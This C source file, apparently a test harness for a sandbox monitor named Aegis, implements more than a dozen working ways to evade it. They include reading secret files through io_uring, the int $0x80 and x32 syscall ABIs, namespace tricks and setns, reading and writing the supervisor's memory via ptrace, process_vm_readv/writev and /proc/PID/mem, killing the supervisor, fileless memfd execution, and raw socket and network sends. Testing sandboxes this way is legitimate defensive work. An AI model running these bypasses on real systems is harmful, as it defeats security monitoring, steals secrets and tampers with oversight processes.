/* bypass.c: ways around the observer instead of through it.
 *
 *   bypass io-uring       SECRET_FILE SECRET LOOT   open+read through io_uring (kernel-side opens)
 *   bypass int80          SECRET_FILE SECRET LOOT   open through the i386 syscall ABI (int $0x80)
 *   bypass x32            SECRET_FILE SECRET LOOT   openat with the x32 bit (0x40000000) set
 *   bypass userns-mount   SECRET_FILE DECOY SECRET LOOT  new user+mount namespace, bind the secret over a decoy
 *   bypass setns          SECRET_FILE SECRET LOOT   join PID 1's / Aegis's mount namespace, then read
 *   bypass ptrace-read    PID ADDR LEN LOOT         PTRACE_ATTACH + PEEKDATA
 *   bypass vm-read        PID ADDR LEN LOOT         process_vm_readv
 *   bypass vm-write       PID ADDR MARKER           process_vm_writev
 *   bypass mem-read       PID ADDR LEN LOOT         /proc/PID/mem
 *   bypass mem-write      PID ADDR MARKER           /proc/PID/mem
 *   bypass kill           PID                       SIGKILL a process
 *   bypass supervisor     TECHNIQUE                 ptrace|vm-read|vm-write|mem-read|mem-write|kill|cwd
 *                                                   against the Aegis process above us (non-destructive
 *                                                   writes: the bytes read are written back)
 *   bypass memfd-exec     MARKER                    memfd_create + execveat(AT_EMPTY_PATH) of /bin/echo
 *   bypass memfd-proc-exec MARKER                   memfd_create + execve("/proc/self/fd/N")
 *   bypass socket         vsock|packet|raw|raw6     create the socket (creation is the gate)
 *   bypass udp            HOST PORT MSG             sendto a UDP listener
 *   bypass tcp            HOST PORT MSG             connect + send to a TCP listener
 *   bypass mptcp          HOST PORT MSG             the same over IPPROTO_MPTCP (falls back to TCP)
 *   bypass abstract       NAME MSG                  connect to an abstract unix socket "\0NAME"
 *   bypass unix-path      PATH MSG                  connect to a pathname unix socket
 *
 * Exit 0 when the attack succeeded, 1 when it was blocked. */
#include "common.h"
#include <arpa/inet.h>
#include <linux/io_uring.h>
#include <linux/if_ether.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>

#ifndef AF_VSOCK
#define AF_VSOCK 40
#endif

extern char **environ;

static int io_uring_read(const char *path, const char *secret, const char *loot)
{
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    int ring = (int)syscall(__NR_io_uring_setup, 4, &p);
    if (ring < 0) {
        report_errno("io-uring", "io_uring_setup");
        return 0;
    }
    size_t sq_size = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cq_size = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    if (p.features & IORING_FEAT_SINGLE_MMAP)
        sq_size = cq_size = sq_size > cq_size ? sq_size : cq_size;
    char *sq = mmap(NULL, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
    char *cq = (p.features & IORING_FEAT_SINGLE_MMAP)
                   ? sq
                   : mmap(NULL, cq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
                          IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
                                     MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) {
        report_errno("io-uring", "mmap rings");
        return 0;
    }
    static char buf[8192];
    int fd = -1;
    for (int step = 0; step < 2; step++) {
        unsigned *sq_tail = (unsigned *)(sq + p.sq_off.tail), *sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
        unsigned *sq_array = (unsigned *)(sq + p.sq_off.array);
        unsigned tail = *sq_tail, idx = tail & *sq_mask;
        struct io_uring_sqe *sqe = &sqes[idx];
        memset(sqe, 0, sizeof *sqe);
        if (step == 0) {
            sqe->opcode = IORING_OP_OPENAT;
            sqe->fd = AT_FDCWD;
            sqe->addr = (uint64_t)(uintptr_t)path;
            sqe->open_flags = O_RDONLY;
        } else {
            sqe->opcode = IORING_OP_READ;
            sqe->fd = fd;
            sqe->addr = (uint64_t)(uintptr_t)buf;
            sqe->len = sizeof buf - 1;
        }
        sq_array[idx] = idx;
        __atomic_store_n(sq_tail, tail + 1, __ATOMIC_RELEASE);
        if (syscall(__NR_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) {
            report_errno("io-uring", "io_uring_enter");
            return 0;
        }
        unsigned *cq_head = (unsigned *)(cq + p.cq_off.head), *cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
        struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
        unsigned head = __atomic_load_n(cq_head, __ATOMIC_ACQUIRE);
        int res = cqes[head & *cq_mask].res;
        __atomic_store_n(cq_head, head + 1, __ATOMIC_RELEASE);
        if (res < 0) {
            errno = -res;
            report_errno("io-uring", step == 0 ? "IORING_OP_OPENAT" : "IORING_OP_READ");
            return 0;
        }
        if (step == 0)
            fd = res;
        else
            buf[res] = 0;
    }
    if (strstr(buf, secret)) {
        save_loot(loot, buf, strlen(buf));
        report("io-uring", "OBTAINED", secret);
        return 1;
    }
    report("io-uring", "BLOCKED", "read but not the secret");
    return 0;
}

static int int80_open(const char *path, const char *secret, const char *loot)
{
    /* The i386 ABI takes 32-bit pointers: put the path below 4 GiB. */
    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED) {
        report_errno("int80", "mmap MAP_32BIT");
        return 0;
    }
    snprintf(low, 4096, "%s", path);
    long ret;
    __asm__ volatile("int $0x80"
                     : "=a"(ret)
                     : "a"(5L /* i386 __NR_open */), "b"((long)(uintptr_t)low), "c"(0L), "d"(0L)
                     : "memory", "r8", "r9", "r10", "r11");
    if (ret < 0) {
        errno = (int)-ret;
        report_errno("int80", "i386 open");
        return 0;
    }
    int got = check_fd_for_secret((int)ret, "int80", secret, loot);
    close((int)ret);
    return got;
}

static int x32_open(const char *path, const char *secret, const char *loot)
{
    long fd = syscall(0x40000000L | __NR_openat, AT_FDCWD, path, O_RDONLY);
    if (fd < 0) {
        report_errno("x32", "x32 openat");
        return 0;
    }
    int got = check_fd_for_secret((int)fd, "x32", secret, loot);
    close((int)fd);
    return got;
}

static int userns_mount(const char *secret_file, const char *decoy, const char *secret, const char *loot)
{
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) {
        report_errno("userns-mount", "unshare(CLONE_NEWUSER|CLONE_NEWNS)");
        if (unshare(CLONE_NEWNS) != 0) {
            report_errno("userns-mount", "unshare(CLONE_NEWNS)");
            return 0;
        }
    }
    int got = try_read_secret("userns-direct", AT_FDCWD, secret_file, secret, loot);
    if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0)
        report_errno("userns-mount", "make / private");
    if (mount(secret_file, decoy, NULL, MS_BIND, NULL) != 0) {
        report_errno("userns-mount", "bind mount");
        return got;
    }
    return try_read_secret("userns-mount", AT_FDCWD, decoy, secret, loot) || got;
}

static int join_namespaces(const char *secret_file, const char *secret, const char *loot)
{
    char path[64];
    pid_t targets[2] = {1, find_aegis_pid()};
    int got = 0;
    for (int i = 0; i < 2; i++) {
        snprintf(path, sizeof path, "/proc/%d/ns/mnt", targets[i]);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0) {
            report_errno("setns", path);
            continue;
        }
        if (setns(fd, 0) != 0) {
            report_errno("setns", path);
            close(fd);
            continue;
        }
        close(fd);
        got |= try_read_secret("setns", AT_FDCWD, secret_file, secret, loot);
    }
    return got;
}

static int peek_ptrace(pid_t pid, uintptr_t addr, size_t len, char *out)
{
    if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) != 0) {
        report_errno("ptrace", "PTRACE_ATTACH");
        return 0;
    }
    waitpid(pid, NULL, __WALL);
    for (size_t off = 0; off < len; off += sizeof(long)) {
        errno = 0;
        long word = ptrace(PTRACE_PEEKDATA, pid, (void *)(addr + off), NULL);
        if (errno) {
            report_errno("ptrace", "PTRACE_PEEKDATA");
            ptrace(PTRACE_DETACH, pid, NULL, NULL);
            return 0;
        }
        memcpy(out + off, &word, len - off < sizeof word ? len - off : sizeof word);
    }
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
    return 1;
}

static int vm_read(pid_t pid, uintptr_t addr, size_t len, char *out)
{
    struct iovec local = {out, len}, remote = {(void *)addr, len};
    if (process_vm_readv(pid, &local, 1, &remote, 1, 0) != (ssize_t)len) {
        report_errno("vm-read", "process_vm_readv");
        return 0;
    }
    return 1;
}

static int vm_write(pid_t pid, uintptr_t addr, const char *data, size_t len)
{
    struct iovec local = {(void *)data, len}, remote = {(void *)addr, len};
    if (process_vm_writev(pid, &local, 1, &remote, 1, 0) != (ssize_t)len) {
        report_errno("vm-write", "process_vm_writev");
        return 0;
    }
    return 1;
}

static int mem_io(pid_t pid, uintptr_t addr, char *data, size_t len, int writing)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int fd = open(path, (writing ? O_RDWR : O_RDONLY) | O_CLOEXEC);
    if (fd < 0) {
        report_errno(writing ? "mem-write" : "mem-read", path);
        return 0;
    }
    ssize_t n = writing ? pwrite(fd, data, len, (off_t)addr) : pread(fd, data, len, (off_t)addr);
    close(fd);
    if (n != (ssize_t)len) {
        report_errno(writing ? "mem-write" : "mem-read", "pread/pwrite");
        return 0;
    }
    return 1;
}

/* First mapping of the target with the given permission string prefix, e.g. "r-xp" or "rw-p". */
static uintptr_t find_mapping(pid_t pid, const char *perms)
{
    char path[64], line[512];
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "re");
    if (!maps) {
        report_errno("supervisor", path);
        return 0;
    }
    uintptr_t start = 0, found = 0;
    char p[8];
    while (!found && fgets(line, sizeof line, maps))
        if (sscanf(line, "%lx-%*x %7s", &start, p) == 2 && !strcmp(p, perms))
            found = start;
    fclose(maps);
    return found;
}

static int attack_supervisor(const char *technique)
{
    pid_t pid = find_aegis_pid();
    char buf[64], detail[128];
    snprintf(detail, sizeof detail, "pid %d", pid);
    int ok = 0;
    if (!strcmp(technique, "kill")) {
        ok = kill(pid, SIGKILL) == 0;
        if (!ok)
            report_errno(technique, "kill");
    } else if (!strcmp(technique, "cwd")) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/cwd", pid);
        int fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
        ok = fd >= 0;
        if (!ok)
            report_errno(technique, path);
    } else {
        /* Without /proc/PID/maps an attacker can still guess; try the usual non-PIE base too. */
        uintptr_t text = find_mapping(pid, "r-xp"), data = find_mapping(pid, "rw-p");
        if (!text)
            text = 0x400000;
        if (!data)
            data = 0x600000;
        if (!strcmp(technique, "ptrace"))
            ok = peek_ptrace(pid, text, sizeof buf, buf);
        else if (!strcmp(technique, "vm-read"))
            ok = vm_read(pid, text, sizeof buf, buf);
        else if (!strcmp(technique, "vm-write"))
            ok = vm_read(pid, data, sizeof buf, buf) && vm_write(pid, data, buf, sizeof buf);
        else if (!strcmp(technique, "mem-read"))
            ok = mem_io(pid, text, buf, sizeof buf, 0);
        else if (!strcmp(technique, "mem-write"))
            ok = mem_io(pid, text, buf, sizeof buf, 0) && mem_io(pid, text, buf, sizeof buf, 1);
        else
            die_usage("bypass supervisor ptrace|vm-read|vm-write|mem-read|mem-write|kill|cwd");
    }
    if (ok)
        report(technique, "OBTAINED", detail);
    return ok;
}

static int memfd_exec(const char *marker, int via_proc)
{
    int mfd = (int)syscall(SYS_memfd_create, marker, 0);
    int src = open("/bin/echo", O_RDONLY | O_CLOEXEC);
    if (mfd < 0 || src < 0) {
        report_errno("memfd-exec", "memfd_create/open /bin/echo");
        return 0;
    }
    char buf[65536];
    ssize_t n;
    while ((n = read(src, buf, sizeof buf)) > 0)
        if (write(mfd, buf, (size_t)n) != n) {
            report_errno("memfd-exec", "write");
            return 0;
        }
    close(src);
    char *args[] = {(char *)marker, "MEMFD-RAN", (char *)marker, NULL};
    if (via_proc) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", mfd);
        execve(path, args, environ);
    } else {
        syscall(SYS_execveat, mfd, "", args, environ, AT_EMPTY_PATH);
    }
    report_errno("memfd-exec", "exec");
    return 0;
}

static int make_socket(const char *kind)
{
    int fd;
    if (!strcmp(kind, "vsock"))
        fd = socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0);
    else if (!strcmp(kind, "packet"))
        fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
    else if (!strcmp(kind, "raw"))
        fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);
    else if (!strcmp(kind, "raw6"))
        fd = socket(AF_INET6, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMPV6);
    else
        die_usage("bypass socket vsock|packet|raw|raw6");
    if (fd < 0) {
        report_errno(kind, "socket");
        return 0;
    }
    report(kind, "OBTAINED", "socket created");
    return 1;
}

static int send_to(const char *kind, const char *a, const char *b, const char *msg)
{
    int fd = -1, ok = 0;
    if (!strcmp(kind, "udp") || !strcmp(kind, "tcp") || !strcmp(kind, "mptcp")) {
        struct sockaddr_in sin = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(b))};
        inet_pton(AF_INET, a, &sin.sin_addr);
        int udp = !strcmp(kind, "udp");
        fd = socket(AF_INET, (udp ? SOCK_DGRAM : SOCK_STREAM) | SOCK_CLOEXEC,
                    !strcmp(kind, "mptcp") ? 262 /* IPPROTO_MPTCP */ : 0);
        if (fd < 0)
            report_errno(kind, "socket");
        else if (udp)
            ok = sendto(fd, msg, strlen(msg), 0, (struct sockaddr *)&sin, sizeof sin) >= 0;
        else
            ok = connect(fd, (struct sockaddr *)&sin, sizeof sin) == 0 && send(fd, msg, strlen(msg), 0) >= 0;
    } else {
        struct sockaddr_un sun = {.sun_family = AF_UNIX};
        socklen_t len;
        if (!strcmp(kind, "abstract")) {
            snprintf(sun.sun_path + 1, sizeof sun.sun_path - 1, "%s", a);
            len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(a));
        } else {
            snprintf(sun.sun_path, sizeof sun.sun_path, "%s", a);
            len = sizeof sun;
        }
        msg = b;
        fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
        ok = fd >= 0 && connect(fd, (struct sockaddr *)&sun, len) == 0 && send(fd, msg, strlen(msg), 0) >= 0;
    }
    if (ok)
        report(kind, "OBTAINED", "sent");
    else if (fd >= 0)
        report_errno(kind, "connect/send");
    return ok;
}

int main(int argc, char **argv)
{
    if (argc < 2)
        die_usage("bypass ATTACK ARGS...");
    const char *a = argv[1];
    int ok = 0;
#define NEED(n, usage) if (argc != (n)) die_usage(usage)
    if (!strcmp(a, "io-uring")) {
        NEED(5, "bypass io-uring SECRET_FILE SECRET LOOT");
        ok = io_uring_read(argv[2], argv[3], argv[4]);
    } else if (!strcmp(a, "int80")) {
        NEED(5, "bypass int80 SECRET_FILE SECRET LOOT");
        ok = int80_open(argv[2], argv[3], argv[4]);
    } else if (!strcmp(a, "x32")) {
        NEED(5, "bypass x32 SECRET_FILE SECRET LOOT");
        ok = x32_open(argv[2], argv[3], argv[4]);
    } else if (!strcmp(a, "userns-mount")) {
        NEED(6, "bypass userns-mount SECRET_FILE DECOY SECRET LOOT");
        ok = userns_mount(argv[2], argv[3], argv[4], argv[5]);
    } else if (!strcmp(a, "setns")) {
        NEED(5, "bypass setns SECRET_FILE SECRET LOOT");
        ok = join_namespaces(argv[2], argv[3], argv[4]);
    } else if (!strcmp(a, "ptrace-read") || !strcmp(a, "vm-read") || !strcmp(a, "mem-read")) {
        NEED(6, "bypass ptrace-read|vm-read|mem-read PID ADDR LEN LOOT");
        pid_t pid = atoi(argv[2]);
        uintptr_t addr = strtoull(argv[3], NULL, 0);
        size_t len = strtoul(argv[4], NULL, 0);
        char *buf = calloc(1, len + 1);
        ok = !strcmp(a, "ptrace-read") ? peek_ptrace(pid, addr, len, buf)
             : !strcmp(a, "vm-read")   ? vm_read(pid, addr, len, buf)
                                       : mem_io(pid, addr, buf, len, 0);
        if (ok) {
            save_loot(argv[5], buf, len);
            report(a, "OBTAINED", "memory read");
        }
    } else if (!strcmp(a, "vm-write") || !strcmp(a, "mem-write")) {
        NEED(5, "bypass vm-write|mem-write PID ADDR MARKER");
        pid_t pid = atoi(argv[2]);
        uintptr_t addr = strtoull(argv[3], NULL, 0);
        ok = !strcmp(a, "vm-write") ? vm_write(pid, addr, argv[4], strlen(argv[4]))
                                    : mem_io(pid, addr, argv[4], strlen(argv[4]), 1);
        if (ok)
            report(a, "OBTAINED", "memory written");
    } else if (!strcmp(a, "kill")) {
        NEED(3, "bypass kill PID");
        ok = kill(atoi(argv[2]), SIGKILL) == 0;
        if (ok)
            report(a, "OBTAINED", "signal delivered");
        else
            report_errno(a, "kill");
    } else if (!strcmp(a, "supervisor")) {
        NEED(3, "bypass supervisor TECHNIQUE");
        ok = attack_supervisor(argv[2]);
    } else if (!strcmp(a, "memfd-exec") || !strcmp(a, "memfd-proc-exec")) {
        NEED(3, "bypass memfd-exec MARKER");
        ok = memfd_exec(argv[2], !strcmp(a, "memfd-proc-exec"));
    } else if (!strcmp(a, "socket")) {
        NEED(3, "bypass socket KIND");
        ok = make_socket(argv[2]);
    } else if (!strcmp(a, "udp") || !strcmp(a, "tcp") || !strcmp(a, "mptcp")) {
        NEED(5, "bypass udp|tcp|mptcp HOST PORT MSG");
        ok = send_to(a, argv[2], argv[3], argv[4]);
    } else if (!strcmp(a, "abstract") || !strcmp(a, "unix-path")) {
        NEED(4, "bypass abstract|unix-path NAME MSG");
        ok = send_to(a, argv[2], argv[3], NULL);
    } else {
        die_usage("unknown attack");
    }
    return ok ? 0 : 1;
}
